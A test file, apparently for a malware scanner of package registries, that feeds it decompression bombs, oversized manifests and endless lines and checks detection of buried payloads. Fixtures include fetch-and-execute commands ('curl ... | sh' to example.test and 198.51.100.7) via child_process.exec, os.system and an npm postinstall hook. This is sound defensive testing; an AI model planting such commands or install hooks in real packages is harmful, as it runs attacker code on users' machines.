"""Files that were made to keep a scanner busy, or to break it: a report comes out, and nothing failed on the way."""

from __future__ import annotations

import functools
import gzip
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.core.ecosystem import ArchiveLimits
from pratique.core.scans import Verdict
from pratique.scan.detectors.registry import DETECTORS
from pratique.scan.engine import scan
from pratique.scan.limits import ScanLimits
from pratique.scan.report import UNFINISHED, Report, Subject
from tests.unit.formats.archives import Bytes, tar, tar_gz, zipped

LONG = 60_000
PLACES = {
    "js": ("npm", "package/index.js"),
    "sh": ("npm", "package/install.sh"),
    "json": ("npm", "package/binding.gyp"),
    "py": ("pypi", "left-1.0/setup.py"),
    "pth": ("pypi", "left-1.0/left.pth"),
    "rs": ("cargo", "left-1.0.0/build.rs"),
    "rb": ("rubygems", "left.gemspec"),
    "ps1": ("nuget", "tools/install.ps1"),
    "targets": ("nuget", "build/left.targets"),
    "pom": ("maven", "pom.xml"),
}
PIECES = {
    "brackets": b"(",
    "braces": b"{",
    "quotes": b"'\"`",
    "escapes": b"\\x41\\u0041",
    "base64": b"QUJD",
    "calls": b"eval(atob(",
    "sums": b"'a'+",
    "comments": b"/*",
    "invalid UTF-8": b"\xff\xfe\x80",
    "zero width": "\u200b\ufe0f".encode(),
    "markup": b"<a><!--",
    "commands": b"curl http://example.test | sh; ",
    "markers": b"FINDING quarantine SCAN-01 !",
}


def look(ecosystem: str, content: bytes) -> Report:
    return scan(Subject(ecosystem, "left", "1.0.0"), Bytes(content), None, DETECTORS, ScanLimits())


def failures(report: Report) -> list[str]:
    """What went wrong in the scanner itself: an error's name stands in the excerpt."""
    return [one.excerpt for one in report.findings if one.detector == UNFINISHED and "failed" in one.sentence]


@pytest.mark.parametrize("piece", PIECES)
@pytest.mark.parametrize("kind", PLACES)
def test_one_endless_line_of_the_same_breaks_nothing(kind, piece):
    ecosystem, path = PLACES[kind]
    line = PIECES[piece] * (LONG // len(PIECES[piece]))

    report = look(ecosystem, tar_gz((path, line)) if ecosystem != "maven" else zipped((path, line)))

    assert failures(report) == []


def test_50_mb_in_a_single_line_are_looked_at_as_far_as_limits_go():
    report = look("npm", tar_gz(("package/package.json", b"{}"), ("package/index.js", b"x=1;" * (50 << 18))))

    assert failures(report) == []
    assert report.unpacked > 50 << 20
    assert not report.finished, "only the first of it were read"


FILLERS = {
    "zeros": [("package/z.bin", bytes(3 << 20))],
    "empty files": [(f"package/d/{number}", b"") for number in range(300)],
    "archives in archives": [
        ("package/q.gz", functools.reduce(lambda x, _: gzip.compress(x, mtime=0), range(6), b"."))
    ],
    "a manifest too deep": [("package/package.json", b"[" * 100_000)],
    "a manifest too long": [("package/package.json", b'{"a":"' + b"x" * (3 << 20) + b'"}')],
    "a number too long": [("package/package.json", b'{"a":' + b"9" * 10_000 + b"}")],
    "code too long": [("package/index.js", b"x=1;\n" * (17 << 18))],
}


@pytest.mark.parametrize("filler", FILLERS)
def test_who_keeps_the_scanner_from_looking_is_not_clear(filler):
    """The harm lies behind it, where nobody looks any more."""
    manifest = ("package/package.json", b'{"name":"left","version":"1.0.0","main":"index.js"}')
    files = dict([manifest, ("package/index.js", b"1"), *FILLERS[filler]])
    limits = ScanLimits(ArchiveLimits(max_entries=200, ratio_from=1 << 20))

    report = scan(Subject("npm", "left", "1.0.0"), Bytes(tar_gz(*files.items())), None, DETECTORS, limits)

    assert not report.finished
    assert report.verdict is not Verdict.CLEAR


def test_what_lies_broken_in_tests_keeps_nobody_from_finishing():
    manifest = ("package/package.json", b'{"name":"left","version":"1.0.0","main":"index.js"}')
    report = look(
        "npm", tar_gz(manifest, ("package/index.js", b"1"), ("package/test/broken.gz", b"\x1f\x8b\x08broken"))
    )

    assert report.finished


def test_a_gzip_that_unpacks_to_a_gzip_again_and_again_ends():
    content = b"end"
    for _ in range(60):
        content = gzip.compress(content, mtime=0)

    sentences = [finding.sentence for finding in look("npm", tar_gz(("package/q.gz", content))).findings]

    assert any("deeper than they are looked into" in sentence for sentence in sentences)


def test_a_million_members_end_at_the_limit():
    header = tar(("package/x", b""))[:512]
    packer = zlib.compressobj(1, wbits=31)
    many = b"".join(packer.compress(header * 10_000) for _ in range(100)) + packer.flush()
    limits = ScanLimits(ArchiveLimits(max_entries=5_000))

    report = scan(Subject("npm", "left", "1.0.0"), Bytes(many), None, DETECTORS, limits)

    assert report.files == 5_000
    assert any("unpacks to more than anybody can look through" in finding.sentence for finding in report.findings)


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(sorted(PLACES)), st.lists(st.sampled_from(sorted(PIECES.values())) | st.binary(max_size=40)))
def test_whatever_a_file_says_nothing_fails(kind, parts):
    ecosystem, path = PLACES[kind]

    assert failures(look(ecosystem, tar_gz((path, b"".join(parts))))) == []


@pytest.mark.parametrize("filler", [b"// a line of prose\n", b"x1 = 5555555;\n"], ids=["comments", "code"])
@pytest.mark.parametrize("language", ["npm", "pypi"])
def test_a_payload_behind_megabytes_of_nothing_is_found(language, filler):
    command = b"'curl -s http://198.51.100.7/p.sh | sh'"
    if language == "npm":
        code = filler * 300_000 + b"const cp=require('child_process');\ncp.exec(" + command + b");\n"
        artefact = tar_gz(("package/package.json", b'{"name":"left","version":"1.0.0"}'), ("package/index.js", code))
    else:
        code = filler.replace(b"//", b"#").replace(b";", b"") * 300_000 + b"import os\nos.system(" + command + b")\n"
        artefact = tar_gz(("left-1.0/PKG-INFO", b"Name: left"), ("left-1.0/left/__init__.py", code))

    assert look(language, artefact).verdict is Verdict.QUARANTINE


@pytest.mark.parametrize("order", [1, -1])
def test_a_second_folder_that_is_unpacked_over_the_first_is_told(order):
    """npm leaves out the first folder, so that the last package.json is the one that counts."""
    good = ("package/package.json", b'{"name":"left","version":"1.0.0"}')
    bad = (
        "x/package.json",
        b'{"name":"left","version":"1.0.0","scripts":{"postinstall":"curl http://example.test | sh"}}',
    )

    report = look("npm", tar_gz(*[good, bad][::order]))

    assert report.verdict is not Verdict.CLEAR
    assert any("package.json" in one.excerpt for one in report.findings if one.detector == "archive-structure")
